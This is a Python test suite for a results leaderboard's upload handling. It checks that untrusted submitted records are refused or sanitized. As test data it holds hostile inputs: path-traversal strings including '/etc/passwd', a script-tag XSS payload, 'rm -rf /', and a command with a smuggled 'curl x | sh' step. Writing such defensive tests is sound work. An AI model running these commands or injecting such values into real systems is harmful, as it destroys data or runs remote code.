"""Hostile submissions: an uploaded record is untrusted data (issue: a Space nobody can break)."""

import copy
import json
import os

import pytest

from tests.test_records import make_record
from xlt.app import board
from xlt.config import TrainConfig
from xlt.errors import XltError
from xlt.experiment import ExperimentConfig
from xlt.results.store import ResultsStore
from xlt.results.submissions import parse_upload, validate_submission


def make_upload(**overrides) -> dict:
    """A record as `xlt train` writes it (a real config), for upload tests."""
    config = ExperimentConfig(task="nli", train=TrainConfig(seed=1))
    record = make_record(config=config.to_dict(), command=config.to_command(),
                         config_fingerprint=config.fingerprint())
    record.update(overrides)
    return record


@pytest.fixture
def space(tmp_path):
    """A results store with a (folder) results repo and the Space's token set, as on a public Space."""
    repo = tmp_path / "repo"
    repo.mkdir()
    store = ResultsStore(home=tmp_path / "home", committed_dir=tmp_path / "committed", repo=f"file://{repo}",
                         token="hf_space_token")
    return store, repo, tmp_path


def upload(store, tmp_path, record, name="upload.json", **kwargs):
    path = tmp_path / name
    path.write_text(record if isinstance(record, str) else json.dumps(record), encoding="utf-8")
    return store.import_upload(path, **kwargs)


def files_under(folder):
    """The files under `folder`, without the stores' lock files (`<home>/.locks/`): they hold no data."""
    return sorted(p for p in folder.rglob("*") if p.is_file() and ".locks" not in p.parts)


TRAVERSAL = ["../../../tmp/x", "..", "/etc/passwd", "a/../../b", "..\\..\\x", "nli/../../x", "~root", "x\x00y"]


def _with(record: dict, dotted: str, value) -> dict:
    record = copy.deepcopy(record)
    target = record
    *path, last = dotted.split(".")
    for key in path:
        target = target[key]
    target[last] = value
    return record


FIELDS = ["task", "method", "model", "run_id", "command", "config.task", "config.method", "config.model",
          "created", "model_fingerprint", "xlt_commit"]


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("value", TRAVERSAL)
def test_path_traversal_in_any_string_field_writes_nothing_outside(space, field, value):
    store, repo, tmp_path = space
    before = set(files_under(tmp_path))
    try:
        record = upload(store, tmp_path, _with(make_upload(run_id="trav-0001"), field, value))
    except XltError:
        record = None
    created = set(files_under(tmp_path)) - before - {tmp_path / "upload.json"}
    allowed = store.submitted_dir.resolve()
    assert all(allowed in p.resolve().parents for p in created), created
    assert not any(p.name.startswith(".") for p in files_under(tmp_path))  # no temp files left
    assert files_under(repo) == []  # nothing pushed with the Space's token
    if record is not None:  # accepted only where the value is harmless text (e.g. a fingerprint string)
        assert field in ("model_fingerprint", "xlt_commit", "command", "created") or value == ".."


@pytest.mark.parametrize("value", TRAVERSAL)
def test_traversal_in_language_lists_is_refused(space, value):
    store, repo, tmp_path = space
    for field in ("source_languages", "target_languages"):
        with pytest.raises(XltError, match=f"'{field}' holds values that are not language codes"):
            upload(store, tmp_path, _with(make_upload(run_id="trav-0002"), field, [value]))
    metrics = {value: {"accuracy": 0.5, "macro_f1": 0.5, "n": 3, "ci95": [0.4, 0.6]}}
    with pytest.raises(XltError, match="'metrics' holds values that are not language codes"):
        upload(store, tmp_path, make_upload(run_id="trav-0003", metrics=metrics))
    assert files_under(store.submitted_dir) == [] and files_under(repo) == []


def test_fake_summary_is_recomputed_and_cannot_rank_first(space):
    store, _, tmp_path = space
    low = {lang: {"accuracy": 0.2, "macro_f1": 0.2, "n": 100, "ci95": [0.15, 0.25]} for lang in ("en", "fr", "de")}
    record = upload(store, tmp_path, make_upload(run_id="fake-0001", metrics=low,
                                                 summary={"metric": "accuracy", "target_average": 0.99}))
    assert abs(record["summary"]["target_average"] - 0.2) < 1e-9
    runs, errors = board.load_runs(store)
    row = runs[runs["run_id"] == "fake-0001"].iloc[0]
    assert abs(row["target_avg"] - 0.2) < 1e-9 and row["status"].startswith("⚠")


@pytest.mark.parametrize("summary", ["0.99", {"target_average": "high"}, {"target_languages": 5}, [1, 2], None])
def test_strange_summaries_change_no_figure(space, summary):
    from xlt.results.records import write_record

    store, _, tmp_path = space
    write_record(make_upload(run_id="good-0001"), store.committed_dir)  # a verified run the figures draw
    try:  # refused as the wrong type, or accepted with the summary rebuilt: never shown as uploaded
        upload(store, tmp_path, make_upload(run_id="odd-00001", summary=summary,
                                            metrics={"en": make_record()["metrics"]["en"]}), name="b.json")
    except XltError as exc:
        assert "summary" in str(exc)
    runs, errors = board.load_runs(store)
    assert len(runs) in (1, 2) and not errors
    before = [f.to_json() for f in board.leaderboard_figures(runs[runs["run_id"] == "good-0001"], "nli")]
    figures = board.leaderboard_figures(runs, "nli")
    for fig in figures[:2]:  # the third is the (empty) few-shot curve
        assert not fig.layout.annotations, fig.layout.annotations[0].text
    assert [f.to_json() for f in figures] == before  # an unverified upload changes no figure
    _, cells, _ = board.load_board(store)
    assert set(cells["run_id"]) <= {"good-0001"}  # nor the transfer matrix
    assert len(board.leaderboard_table(runs)) == len(runs)


@pytest.mark.parametrize("overrides, message", [
    ({"junk": "x" * 1_950_000}, "larger than"),
    ({"junk": 1}, "unknown field"),
    ({"hardware": {"cpu": "x" * 10_000}}, "characters"),
    ({"hardware": {"world_size": "2"}}, "hardware.world_size must be a whole number of at least 1"),
    ({"hardware": {"gpu_count": True}}, "hardware.gpu_count must be a whole number"),
    ({"seed": "1"}, "wrong type"),
    ({"seed": 7}, "disagrees"),
    ({"metrics": []}, "wrong type"),
    ({"metrics": {"en": {"accuracy": 0.5, "macro_f1": 0.5, "n": 3, "ci95": [0, 1], "extra": 1}}}, "unknown field"),
    ({"metrics": {"en": {"accuracy": "0.5", "macro_f1": 0.5, "n": 3, "ci95": [0, 1]}}}, "accuracy must be"),
    ({"metrics": {"en": {"accuracy": 0.5, "macro_f1": 0.5, "n": 3, "ci95": [0, 1], "rows": "../x"}}}, "digest"),
    ({"task": "paraphrase"}, "unknown task"),
    ({"method": "magic"}, "unknown method"),
    ({"model": "<script>alert(1)</script>"}, "'model' must be"),
    ({"model": "**bold** [link](javascript:x)"}, "'model' must be"),
    ({"command": "rm -rf /"}, "'command' must be"),
    ({"config": {"task": "nli", "train": {"epochs": -1}}}, "not an experiment config"),
    ({"config": "nli"}, "wrong type"),
    ({"training": {"a": {"b": {"c": {"d": {"e": {"f": {"g": {"h": 1}}}}}}}}}, "nested deeper"),
    ({"training": {"loss_curve": [[i] for i in range(12_000)]}}, "more than"),
    # optional fields of the wrong type: each once took the leaderboard, every later upload and the
    # app's start-up down (every read of the store upgrades and filters on them)
    ({"protocol": ["x"]}, "'protocol' has the wrong type"),
    ({"protocol": 5, "command": "xlt train --protocol 5"}, "'protocol' has the wrong type"),
    ({"protocol": "../x y"}, "'protocol' must be a name"),
    ({"schema_version": 1, "training": "boom"}, "'training' has the wrong type"),
    ({"collapsed": "no"}, "'collapsed' has the wrong type"),
    ({"seen_languages": [1]}, "'seen_languages' has the wrong type"),
    # English left out of what the run saw would count its in-language score as a target
    ({"seen_languages": []}, "'seen_languages' must include every source language"),
])
def test_bad_uploads_are_refused_with_the_reason(space, overrides, message):
    store, repo, tmp_path = space
    with pytest.raises(XltError, match=message):
        upload(store, tmp_path, make_upload(run_id="bad-00001", **overrides))
    assert files_under(store.submitted_dir) == [] and files_under(repo) == []


def test_a_record_of_a_capped_evaluation_is_accepted(space):
    """Capped evaluations (every NLI protocol record) say which rows they scored."""
    store, repo, tmp_path = space
    record = make_upload(run_id="capped-00001")
    for lang in record["metrics"]:
        record["metrics"][lang]["rows"] = "sha256:0123456789abcdef"
    kept = upload(store, tmp_path, record)
    assert kept["metrics"]["en"]["rows"] == "sha256:0123456789abcdef" and files_under(store.submitted_dir)


@pytest.mark.parametrize("text, message", [
    ("[" * 100_000 + "]" * 100_000, "nested too deeply|larger than"),
    ("[" * 5_000 + "]" * 5_000, "nested too deeply|a JSON object"),
    ('{"seed": NaN}', "not a number"),
    ("not json", "not valid JSON"),
    ("[]", "JSON object"),
    ('{"seed": ' + "9" * 5000 + "}", "number too long"),  # Python's json refuses ints of over 4,300 digits
], ids=lambda v: repr(v)[:30])
def test_malformed_json_is_refused(space, text, message):
    store, _, tmp_path = space
    with pytest.raises(XltError, match=message):
        upload(store, tmp_path, text)


def test_latin1_bytes_are_refused():
    with pytest.raises(XltError, match="UTF-8"):
        parse_upload(b'{"task": "caf\xe9"}')


def test_duplicates_are_refused(space):
    store, _, tmp_path = space
    upload(store, tmp_path, make_upload(run_id="dup-00001"))
    with pytest.raises(XltError, match="already on the leaderboard"):
        upload(store, tmp_path, make_upload(run_id="dup-00001"))
    with pytest.raises(XltError, match="same run"):
        upload(store, tmp_path, make_upload(run_id="dup-00002"))


def test_anonymous_uploads_are_never_pushed_signed_in_ones_become_pull_requests(space):
    store, repo, tmp_path = space
    upload(store, tmp_path, make_upload(run_id="anon-0001"))
    assert files_under(repo) == [] and store.pending() == []
    record = upload(store, tmp_path, make_upload(run_id="user-0001", seed=1,
                                                 metrics={"en": make_record()["metrics"]["en"]}),
                    user="alice", oauth_token="hf_oauth_of_alice")
    prs = files_under(repo.with_name("repo-prs"))
    assert len(prs) == 1 and prs[0].name.endswith("user-0001.json") and "alice" in str(prs[0])
    assert files_under(repo) == [] and record["pull_request"]  # the repo itself only changes when merged
    runs, _ = board.load_runs(store)
    assert set(runs["status"]) == {"⚠ submitted, unverified"}
    assert board.leaderboard_table(runs, verified_only=True).empty


def test_owner_accepts_a_submission(space, monkeypatch):
    store, repo, tmp_path = space
    upload(store, tmp_path, make_upload(run_id="acc-00001"))
    monkeypatch.setenv("SPACE_ID", "owner/xlt")
    monkeypatch.setenv("SPACE_AUTHOR_NAME", "owner")
    assert "Refused" in board.accept_record(store, "acc-00001", None)
    assert "Refused" in board.accept_record(store, "acc-00001", {"preferred_username": "mallory"})
    assert "Accepted" in board.accept_record(store, "acc-00001", {"preferred_username": "owner"})
    runs, _ = board.load_runs(store)
    assert list(runs["status"]) == ["✓ verified"]
    assert [p.name for p in files_under(repo)] == [p.name for p in files_under(store.local_dir)]


def test_failed_write_leaves_no_temp_file_and_temp_files_are_never_read(space, monkeypatch):
    store, _, tmp_path = space

    def broken_replace(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(OSError):
        upload(store, tmp_path, make_upload(run_id="tmp-00001"))
    monkeypatch.undo()
    assert files_under(store.submitted_dir) == []
    stray = store.local_dir / "nli" / ".tmp-abc.json"
    stray.parent.mkdir(parents=True, exist_ok=True)
    stray.write_text(json.dumps(make_upload(run_id="hidden-0001")))
    runs, errors = board.load_runs(store)
    assert "hidden-0001" not in set(runs["run_id"]) and not errors


def test_validate_submission_keeps_a_real_record():
    clean = validate_submission(make_upload(summary={"metric": "accuracy", "target_average": 0.99}))
    assert clean["summary"]["target_average"] == pytest.approx(0.6) and clean["target_languages"] == ["en", "fr"]


def test_a_malformed_record_placed_in_the_store_is_skipped_and_the_app_still_starts(space, monkeypatch):
    """A file that passed an older check (or was copied in by hand) costs one message, never every reader."""
    from xlt.app.ui import build_app

    store, repo, tmp_path = space
    store.submitted_dir.mkdir(parents=True, exist_ok=True)
    bad = make_upload(run_id="odd-00001", schema_version=1, training="boom")
    (store.submitted_dir / "nli").mkdir(exist_ok=True)
    (store.submitted_dir / "nli" / "odd.json").write_text(json.dumps(bad), encoding="utf-8")
    upload(store, tmp_path, make_upload(run_id="good-00002"))  # later uploads still work
    records, errors = store.records()
    assert [r["run_id"] for r in records] == ["good-00002"] and "odd.json" in errors[0]
    runs, _, _ = board.load_board(store)
    assert list(runs["run_id"]) == ["good-00002"]
    monkeypatch.setenv("XLT_HOME", str(store.home))
    app = build_app(home=store.home, start_runner=False, sync_results=False)
    assert type(app).__name__ == "Blocks"


def test_uploads_waiting_for_review_are_capped_per_uploader(space, monkeypatch):
    """Anonymous spam (one identity, a metric changed per copy) used to fill the whole review budget and so
    block every signed-in user's submission."""
    from xlt.results import store as store_module

    store, repo, tmp_path = space
    monkeypatch.setattr(store_module, "MAX_WAITING_ANONYMOUS", 2)
    monkeypatch.setattr(store_module, "MAX_WAITING_PER_USER", 1)
    scores = iter(range(1, 100))

    def make(run_id):  # each a different run: the same scores twice are refused as a duplicate
        record = make_upload(run_id=run_id)
        record["metrics"]["en"]["accuracy"] = next(scores) / 100
        return record

    for i in range(2):
        upload(store, tmp_path, make(f"spam-{i:04d}"))
    with pytest.raises(XltError, match="anonymous visitors have 2 submitted records waiting.*or sign in"):
        upload(store, tmp_path, make("spam-0002"))
    upload(store, tmp_path, make("alice-0001"), user="alice")  # signed-in users are not blocked
    with pytest.raises(XltError, match="alice has 1 submitted records waiting"):
        upload(store, tmp_path, make("alice-0002"), user="alice")
    upload(store, tmp_path, make("bob-00001"), user="bob")
    records, _ = store.records()
    assert sorted(r["run_id"] for r in records if r["status"] != "verified") == [
        "alice-0001", "bob-00001", "spam-0000", "spam-0001"]
    store.accept("spam-0000")  # a reviewed upload frees its place
    upload(store, tmp_path, make("spam-0002"))


def test_accepting_a_run_never_takes_another_upload_whose_file_name_ends_the_same(space):
    """Accept matched submitted files by the name's ending `__<run id>.json`: an anonymous upload with run id
    `evil__victim` blocked (or, listed first, was moved instead of) the signed-in user's record `victim`."""
    store, _, tmp_path = space
    victim = make_upload(run_id="victim")
    victim["metrics"]["en"]["accuracy"] = 0.5
    upload(store, tmp_path, victim, user="alice")
    upload(store, tmp_path, make_upload(run_id="evil__victim"))
    target = store.accept("victim")
    assert json.loads(target.read_text())["run_id"] == "victim"
    left = [json.loads(p.read_text())["run_id"] for p in files_under(store.submitted_dir)]
    assert left == ["evil__victim"]  # the look-alike is neither accepted nor deleted
    with pytest.raises(XltError, match="no submitted record"):
        store.accept("victim")


def test_parallel_uploads_stay_within_the_waiting_cap(space, monkeypatch):
    """The count of waiting uploads and the write of a new one were two steps: uploads arriving together all
    counted the same number and all passed the cap."""
    import threading
    import time

    from xlt.results import store as store_module
    from xlt.results import submissions

    store, _, tmp_path = space
    monkeypatch.setattr(store_module, "MAX_WAITING_ANONYMOUS", 2)
    real = submissions.validate_submission
    monkeypatch.setattr(submissions, "validate_submission", lambda record: (time.sleep(0.05), real(record))[1])
    paths = []
    for i in range(5):
        record = make_upload(run_id=f"spam-{i:04d}")
        record["metrics"]["en"]["accuracy"] = (i + 1) / 100
        paths.append(tmp_path / f"up{i}.json")
        paths[-1].write_text(json.dumps(record))
    barrier, outcomes = threading.Barrier(len(paths)), []

    def send(path):
        barrier.wait()
        try:
            store.import_upload(path)
            outcomes.append("kept")
        except XltError as exc:
            outcomes.append(str(exc))

    threads = [threading.Thread(target=send, args=(p,)) for p in paths]
    [t.start() for t in threads]
    [t.join() for t in threads]
    assert outcomes.count("kept") == 2 and len(files_under(store.submitted_dir)) == 2, outcomes


def test_an_uploads_command_is_rebuilt_from_its_config(space):
    """The leaderboard shows `command` as the line that reproduces a row: an uploader's own text (`xlt train;
    curl evil | sh`) was shown as it came."""
    store, _, tmp_path = space
    kept = upload(store, tmp_path, make_upload(run_id="cmd-000001", command="xlt train --task nli; curl x | sh"))
    assert kept["command"] == ExperimentConfig.from_dict(kept["config"]).to_command()
    assert "curl" not in json.dumps(json.loads(next(iter(files_under(store.submitted_dir))).read_text()))


def test_owner_rejects_a_submission_and_it_frees_its_place(space, monkeypatch):
    store, repo, tmp_path = space
    monkeypatch.setattr("xlt.results.store.MAX_WAITING_ANONYMOUS", 1)
    upload(store, tmp_path, make_upload(run_id="junk-00001"))
    with pytest.raises(XltError, match="anonymous visitors have 1"):
        upload(store, tmp_path, make_upload(run_id="junk-00002", seed=2, config={**make_upload()["config"],
                                                                              "train": {"seed": 2}}))
    monkeypatch.setenv("SPACE_ID", "owner/xlt")
    monkeypatch.setenv("SPACE_AUTHOR_NAME", "owner")
    assert "Refused" in board.reject_record(store, "junk-00001", None)
    assert "Refused" in board.reject_record(store, "junk-00001", {"preferred_username": "mallory"})
    assert files_under(store.submitted_dir)  # a refusal deletes nothing
    assert "Rejected" in board.reject_record(store, "junk-00001", {"preferred_username": "owner"})
    assert files_under(store.submitted_dir) == [] and files_under(repo) == []
    assert "no submitted record" in board.reject_record(store, "junk-00001", {"preferred_username": "owner"})
    upload(store, tmp_path, make_upload(run_id="good-00001"))  # the place is free again


def test_an_unreviewed_upload_never_fills_the_owners_launcher(space):
    """Re-run filled the launcher from any listed record: an upload naming a Hub model or translator of the
    uploader's choosing, launched by the owner, would run with the Space's token."""
    store, _, tmp_path = space
    upload(store, tmp_path, make_upload(run_id="rerun-0001"))
    with pytest.raises(XltError, match="nobody has reviewed"):
        board.rerun_values(store, "rerun-0001")
    store.accept("rerun-0001")
    assert board.rerun_values(store, "rerun-0001")["task"] == "nli"
